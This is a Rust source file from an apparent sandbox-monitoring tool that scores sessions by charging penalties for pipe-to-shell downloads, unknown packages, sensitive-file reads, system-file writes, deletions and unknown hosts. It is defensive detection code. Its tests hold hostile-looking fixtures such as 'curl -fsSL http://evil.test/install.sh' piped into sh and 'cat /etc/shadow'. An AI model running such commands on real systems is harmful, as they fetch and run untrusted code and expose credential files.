//! A session's ledger: what it was seen doing, and the penalties that cost. Each behaviour is
//! charged once per distinct key (host, path, package, downloader); deleted files are counted and
//! charged by tier.

use std::collections::HashSet;

use serde::Serialize;
use serde_json::{Value, json};

use crate::packages::install_of;
use crate::policy::{Policy, Rule};

pub use caged_domain::event::FileChange;
use caged_domain::event::{NetworkAction, ProcessSeen, Seen};

/// Something a sandbox was seen doing, from the host side.
#[derive(Clone, Debug, PartialEq, Serialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Observation {
    /// A process started (`argv` empty when it exited before it could be read).
    Exec {
        pid: i32,
        argv: Vec<String>,
        /// What the program is (`curl`, `bash`, ...), by name or by content.
        program: String,
    },
    /// A shell whose standard input is a pipe a downloader writes into.
    PipeToShell {
        downloader: Vec<String>,
        shell: Vec<String>,
        pid: i32,
    },
    File {
        change: FileChange,
        /// The path inside the sandbox.
        path: String,
        is_dir: bool,
        /// Written by a package manager (or what it ran): charged as a package, not a file.
        by_package_manager: bool,
    },
    /// A watched file was opened; `named` when the opening command's arguments name it.
    SensitiveOpen {
        path: String,
        pid: i32,
        argv: Vec<String>,
        named: bool,
    },
    /// A network destination: refused by the network layer, or reached in `full` mode.
    Network {
        host: String,
        denied: bool,
        #[serde(skip_serializing_if = "Option::is_none")]
        rule: Option<String>,
    },
}

impl Observation {
    /// What a process, file change or open the host saw means for trust; a process that ended
    /// before it could be read means nothing.
    pub fn of_seen(seen: &Seen) -> Option<Observation> {
        Some(match seen {
            Seen::Process(ProcessSeen::Exec {
                pid,
                argv: Some(argv),
                program,
                ..
            }) => Observation::Exec {
                pid: *pid,
                argv: argv.clone(),
                program: program.clone().unwrap_or_default(),
            },
            Seen::Process(ProcessSeen::Exec { argv: None, .. }) => return None,
            Seen::Process(ProcessSeen::PipeToShell {
                pid,
                downloader,
                shell,
            }) => Observation::PipeToShell {
                downloader: downloader.clone(),
                shell: shell.clone(),
                pid: *pid,
            },
            Seen::File(file) => Observation::File {
                change: file.change,
                path: file.path.clone(),
                is_dir: file.is_dir,
                by_package_manager: file.by_package_manager,
            },
            Seen::Open(open) => Observation::SensitiveOpen {
                path: open.path.clone(),
                pid: open.pid,
                argv: open.argv.clone(),
                named: open.named,
            },
        })
    }

    /// What a `network` event means for trust: a refusal, or (`full` mode, seen by the firewall
    /// or connection tracking) a destination reached. Allowlist connections went to hosts the
    /// user allowed and cost nothing; other DNS refusals are not hosts reached for.
    pub fn of_network(event: &NetworkAction) -> Option<Observation> {
        let named = |host: &Option<String>, address: &str| {
            host.clone().unwrap_or_else(|| address.to_string())
        };
        let (host, denied, rule) = match event {
            NetworkAction::Blocked {
                host,
                address,
                reason,
                ..
            } => (named(host, address), true, Some(reason.clone())),
            NetworkAction::DnsRefused { host, reason, .. } if reason == "not in allowed_hosts" => {
                (host.clone(), true, Some(reason.clone()))
            }
            NetworkAction::Connect {
                host,
                address,
                by: Some(caged_domain::event::By::Firewall),
                ..
            } => (named(host, address), false, None),
            NetworkAction::Traffic { host, address, .. } => (named(host, address), false, None),
            _ => return None,
        };
        Some(Observation::Network { host, denied, rule })
    }
}

/// One charge against a session's score.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Penalty {
    pub rule: Rule,
    /// What was charged (a host, a path, a package); charged once per session.
    pub key: String,
    pub points: u32,
    /// A sentence for people.
    pub reason: String,
    /// What was seen, for `caged session SID --json`.
    pub evidence: Value,
}

/// Deleted paths kept as evidence.
const DELETION_SAMPLES: usize = 20;

#[derive(Default)]
pub struct Ledger {
    charged: HashSet<(Rule, String)>,
    created: HashSet<String>,
    deleted: u64,
    deleted_samples: Vec<String>,
    points: u64,
}

impl Ledger {
    /// A ledger that knows what was already charged (after a server restart).
    pub fn with_charged(charged: impl IntoIterator<Item = (Rule, String, u32)>) -> Ledger {
        let mut ledger = Ledger::default();
        for (rule, key, points) in charged {
            ledger.points += u64::from(points);
            ledger.charged.insert((rule, key));
        }
        ledger
    }

    /// Points charged so far.
    pub fn points(&self) -> u64 {
        self.points
    }

    pub fn score(&self) -> u32 {
        crate::score(self.points)
    }

    fn charge(
        &mut self,
        rule: Rule,
        key: String,
        points: u32,
        reason: String,
        evidence: Value,
    ) -> Option<Penalty> {
        if points == 0 || !self.charged.insert((rule, key.clone())) {
            return None;
        }
        self.points += u64::from(points);
        Some(Penalty {
            rule,
            key,
            points,
            reason,
            evidence,
        })
    }

    /// Charges what `observation` costs under `policy` for `account`.
    pub fn observe(
        &mut self,
        policy: &Policy,
        account: &str,
        observation: &Observation,
    ) -> Vec<Penalty> {
        let prices = &policy.penalties;
        let mut penalties = Vec::new();
        match observation {
            Observation::Exec { pid, argv, .. } => {
                // Naming a watched file to a program is the behaviour the rule is about, whether
                // or not its open succeeds: an unprivileged user's `cat /etc/shadow` fails with
                // EACCES, which no file watch sees. Charged once per file, as an open is.
                for file in &policy.sensitive_files {
                    if argv.iter().skip(1).any(|arg| arg == &file.path) {
                        penalties.extend(self.charge(
                            Rule::SensitiveFile,
                            file.path.clone(),
                            prices.sensitive_file,
                            format!("named {} to {}", file.path, program_name(argv)),
                            json!({ "path": file.path, "pid": pid, "argv": argv, "named_by_command": true, "attempt": true }),
                        ));
                    }
                }
                let Some(install) = install_of(argv) else {
                    return penalties;
                };
                let hosts = policy.known_hosts_for(account);
                for package in &install.packages {
                    let from_elsewhere = package.source.as_deref().is_some_and(|source| {
                        let host = crate::packages::host_or_self(source);
                        !crate::host_matches(&hosts, &host)
                    });
                    let known = policy.is_known_package(account, install.ecosystem, &package.name);
                    if known && !from_elsewhere {
                        continue;
                    }
                    let why = if from_elsewhere {
                        format!(
                            "from {}, outside the known registries",
                            package.source.as_deref().unwrap_or_default()
                        )
                    } else {
                        "not on the known-packages list".to_string()
                    };
                    let key = format!("{}:{}", install.ecosystem, package.name);
                    penalties.extend(self.charge(
                        Rule::UnknownPackage,
                        key,
                        prices.unknown_package,
                        format!(
                            "installed {} package {} ({why})",
                            install.ecosystem, package.name
                        ),
                        json!({ "pid": pid, "argv": argv, "package": package }),
                    ));
                }
            }
            Observation::PipeToShell {
                downloader,
                shell,
                pid,
            } => {
                let source = downloader
                    .iter()
                    .skip(1)
                    .find_map(|arg| crate::packages::url_host(arg))
                    .unwrap_or_else(|| downloader.join(" "));
                penalties.extend(self.charge(
                    Rule::PipeToShell,
                    source.clone(),
                    prices.pipe_to_shell,
                    format!(
                        "ran a script from {source} straight into a shell ({} | {})",
                        program_name(downloader),
                        program_name(shell)
                    ),
                    json!({ "pid": pid, "downloader": downloader, "shell": shell }),
                ));
            }
            Observation::File {
                change,
                path,
                is_dir,
                by_package_manager,
            } => {
                match change {
                    FileChange::Created | FileChange::MovedTo => {
                        self.created.insert(path.clone());
                    }
                    FileChange::Deleted | FileChange::MovedFrom => {
                        let ours = self.created.remove(path);
                        if *change == FileChange::Deleted && !is_dir && !ours {
                            penalties.extend(self.count_deletion(policy, path));
                        }
                    }
                    FileChange::Written => {}
                }
                if !by_package_manager && policy.is_system_path(path) {
                    penalties.extend(self.charge(
                        Rule::SystemFile,
                        path.clone(),
                        prices.system_file,
                        format!("changed system file {path} ({})", change_word(*change)),
                        json!({ "path": path, "change": change, "is_dir": is_dir }),
                    ));
                }
            }
            Observation::SensitiveOpen {
                path,
                pid,
                argv,
                named,
            } => {
                let watched = policy.sensitive_files.iter().find(|f| &f.path == path);
                if watched.is_some_and(|file| *named || !file.named) {
                    penalties.extend(self.charge(
                        Rule::SensitiveFile,
                        path.clone(),
                        prices.sensitive_file,
                        format!("opened {path} ({})", program_name(argv)),
                        json!({ "path": path, "pid": pid, "argv": argv, "named_by_command": named }),
                    ));
                }
            }
            Observation::Network { host, denied, rule } => {
                let known = crate::host_matches(&policy.known_hosts_for(account), host);
                if *denied || !known {
                    let why = if *denied {
                        "refused by the network policy"
                    } else {
                        "not a known host"
                    };
                    penalties.extend(self.charge(
                        Rule::UnknownHost,
                        host.clone(),
                        prices.unknown_host,
                        format!("network call to {host} ({why})"),
                        json!({ "host": host, "denied": denied, "rule": rule }),
                    ));
                }
            }
        }
        penalties
    }

    fn count_deletion(&mut self, policy: &Policy, path: &str) -> Vec<Penalty> {
        self.deleted += 1;
        if self.deleted_samples.len() < DELETION_SAMPLES {
            self.deleted_samples.push(path.to_string());
        }
        let mut penalties = Vec::new();
        let mut before = 0;
        for tier in &policy.penalties.deleted_files {
            if self.deleted >= tier.at {
                let evidence = json!({
                    "deleted": self.deleted,
                    "threshold": tier.at,
                    "sample": self.deleted_samples,
                });
                penalties.extend(self.charge(
                    Rule::DeletedFiles,
                    format!("at least {}", tier.at),
                    tier.points.saturating_sub(before),
                    format!(
                        "deleted {} files it had not created (threshold {})",
                        self.deleted, tier.at
                    ),
                    evidence,
                ));
            }
            before = tier.points;
        }
        penalties
    }
}

fn program_name(argv: &[String]) -> String {
    argv.first()
        .map(|arg| arg.rsplit('/').next().unwrap_or(arg).to_string())
        .unwrap_or_else(|| "a process".into())
}

fn change_word(change: FileChange) -> &'static str {
    match change {
        FileChange::Created => "created",
        FileChange::Written => "written",
        FileChange::Deleted => "deleted",
        FileChange::MovedFrom => "moved away",
        FileChange::MovedTo => "replaced by a move",
    }
}

#[cfg(test)]
mod tests {
    use caged_domain::event::By;

    #[test]
    fn network_events_map_to_observations() {
        let blocked = NetworkAction::Blocked {
            host: Some("evil.test".into()),
            address: "203.0.113.9".into(),
            port: Some(443),
            protocol: None,
            reason: "not allowed".into(),
            by: By::EgressProxy,
        };
        assert!(matches!(
            Observation::of_network(&blocked),
            Some(Observation::Network { denied: true, .. })
        ));
        let connect = |by| NetworkAction::Connect {
            host: Some("pypi.org".into()),
            address: "203.0.113.10".into(),
            port: Some(443),
            protocol: None,
            by,
            bytes_out: None,
            bytes_in: None,
            duration_ms: None,
        };
        assert!(matches!(
            Observation::of_network(&connect(Some(By::Firewall))),
            Some(Observation::Network { denied: false, .. })
        ));
        // Through the egress proxy: to a host the user allowed.
        assert_eq!(Observation::of_network(&connect(None)), None);
        let unnamed = NetworkAction::Traffic {
            host: None,
            address: "203.0.113.20".into(),
            port: None,
            protocol: "udp".into(),
            connections: 1,
            bytes_out: 1,
            bytes_in: 1,
            by: By::Conntrack,
        };
        assert!(matches!(
            Observation::of_network(&unnamed),
            Some(Observation::Network { ref host, denied: false, .. }) if host == "203.0.113.20"
        ));
        let other_type = NetworkAction::DnsRefused {
            host: "x.test".into(),
            query_type: "TXT".into(),
            reason: "only A and AAAA queries are answered".into(),
        };
        assert_eq!(Observation::of_network(&other_type), None);
        let closed = NetworkAction::Closed {
            host: "x.test".into(),
            reason: "no longer in allowed_hosts".into(),
        };
        assert_eq!(Observation::of_network(&closed), None);
    }

    use super::*;

    fn argv(line: &str) -> Vec<String> {
        line.split_whitespace().map(String::from).collect()
    }

    fn file(change: FileChange, path: &str) -> Observation {
        Observation::File {
            change,
            path: path.into(),
            is_dir: false,
            by_package_manager: false,
        }
    }

    #[test]
    fn each_behaviour_costs_its_price_once() {
        let policy = Policy::default();
        let mut ledger = Ledger::default();
        let exec = |line: &str| Observation::Exec {
            pid: 7,
            argv: argv(line),
            program: String::new(),
        };
        assert!(
            ledger
                .observe(&policy, "a", &exec("npm install"))
                .is_empty()
        );
        assert!(
            ledger
                .observe(&policy, "a", &exec("pip install requests"))
                .is_empty()
        );
        let charged = ledger.observe(&policy, "a", &exec("pip install left_pad2 requests"));
        assert_eq!(charged.len(), 1);
        assert_eq!(
            (charged[0].rule, charged[0].points),
            (Rule::UnknownPackage, 5)
        );
        assert!(
            ledger
                .observe(&policy, "a", &exec("pip install left-pad2"))
                .is_empty()
        );
        let net = |host: &str, denied| Observation::Network {
            host: host.into(),
            denied,
            rule: None,
        };
        assert!(
            ledger
                .observe(&policy, "a", &net("pypi.org", false))
                .is_empty()
        );
        assert_eq!(
            ledger.observe(&policy, "a", &net("evil.test", false))[0].points,
            10
        );
        assert!(
            ledger
                .observe(&policy, "a", &net("evil.test", true))
                .is_empty()
        );
        assert_eq!(
            ledger.observe(&policy, "a", &net("pypi.org", true)).len(),
            1
        );
        assert_eq!(ledger.score(), 100 - 5 - 10 - 10);
    }

    #[test]
    fn passwd_costs_only_when_named_and_shadow_always() {
        let policy = Policy::default();
        let mut ledger = Ledger::default();
        let open = |path: &str, named| Observation::SensitiveOpen {
            path: path.into(),
            pid: 1,
            argv: argv("id"),
            named,
        };
        assert!(
            ledger
                .observe(&policy, "a", &open("/etc/passwd", false))
                .is_empty()
        );
        assert_eq!(
            ledger.observe(&policy, "a", &open("/etc/passwd", true))[0].points,
            20
        );
        assert_eq!(
            ledger.observe(&policy, "a", &open("/etc/shadow", false))[0].points,
            20
        );
        assert_eq!(ledger.score(), 60);
    }

    #[test]
    fn naming_a_watched_file_to_a_program_costs_as_opening_it_once() {
        let policy = Policy::default();
        let mut ledger = Ledger::default();
        let exec = |line: &str| Observation::Exec {
            pid: 7,
            argv: argv(line),
            program: "cat".into(),
        };
        let charged = ledger.observe(&policy, "a", &exec("cat /etc/shadow"));
        assert_eq!(charged.len(), 1, "{charged:?}");
        assert_eq!(
            (charged[0].rule, charged[0].points),
            (Rule::SensitiveFile, 20)
        );
        assert_eq!(charged[0].reason, "named /etc/shadow to cat");
        // The open that follows (root's, which succeeds) is the same behaviour: not charged again.
        let open = Observation::SensitiveOpen {
            path: "/etc/shadow".into(),
            pid: 7,
            argv: argv("cat /etc/shadow"),
            named: true,
        };
        assert!(ledger.observe(&policy, "a", &open).is_empty());
        // A path that only contains the name, or the program itself, is not naming it.
        assert!(
            ledger
                .observe(&policy, "a", &exec("grep x /etc/shadow.bak"))
                .is_empty()
        );
        assert!(
            ledger
                .observe(&policy, "a", &exec("/etc/passwd"))
                .is_empty()
        );
        assert_eq!(ledger.score(), 80);
    }

    #[test]
    fn deleting_what_the_session_made_is_free_and_other_files_are_tiered() {
        let policy = Policy::default();
        let mut ledger = Ledger::default();
        for i in 0..3000 {
            let path = format!("/work/node_modules/f{i}");
            ledger.observe(&policy, "a", &file(FileChange::Created, &path));
            assert!(
                ledger
                    .observe(&policy, "a", &file(FileChange::Deleted, &path))
                    .is_empty()
            );
        }
        let mut charged = Vec::new();
        for i in 0..600 {
            charged.extend(ledger.observe(
                &policy,
                "a",
                &file(FileChange::Deleted, &format!("/work/src/f{i}")),
            ));
        }
        assert_eq!(charged.len(), 2, "{charged:?}");
        assert_eq!(charged.iter().map(|p| p.points).sum::<u32>(), 10);
        assert_eq!(ledger.score(), 90);
    }

    #[test]
    fn system_files_cost_per_path_unless_a_package_manager_wrote_them() {
        let policy = Policy::default();
        let mut ledger = Ledger::default();
        let by_apt = Observation::File {
            change: FileChange::Created,
            path: "/usr/bin/jq".into(),
            is_dir: false,
            by_package_manager: true,
        };
        assert!(ledger.observe(&policy, "a", &by_apt).is_empty());
        assert!(
            ledger
                .observe(&policy, "a", &file(FileChange::Written, "/usr/local/bin/x"))
                .is_empty()
        );
        assert_eq!(
            ledger.observe(&policy, "a", &file(FileChange::Written, "/etc/hosts.allow"))[0].points,
            30
        );
        assert!(
            ledger
                .observe(&policy, "a", &file(FileChange::Written, "/etc/hosts.allow"))
                .is_empty()
        );
        assert_eq!(ledger.score(), 70);
    }

    #[test]
    fn pipe_to_shell_is_charged_per_source() {
        let policy = Policy::default();
        let mut ledger = Ledger::default();
        let pipe = |url: &str| Observation::PipeToShell {
            downloader: argv(&format!("curl -fsSL {url}")),
            shell: argv("sh"),
            pid: 3,
        };
        let first = ledger.observe(&policy, "a", &pipe("http://evil.test/install.sh"));
        assert_eq!(first[0].points, 25);
        assert_eq!(first[0].key, "evil.test");
        assert!(
            ledger
                .observe(&policy, "a", &pipe("http://evil.test/other.sh"))
                .is_empty()
        );
        let restored = Ledger::with_charged([(Rule::PipeToShell, "evil.test".to_string(), 25)]);
        assert_eq!(restored.score(), 75);
    }
}
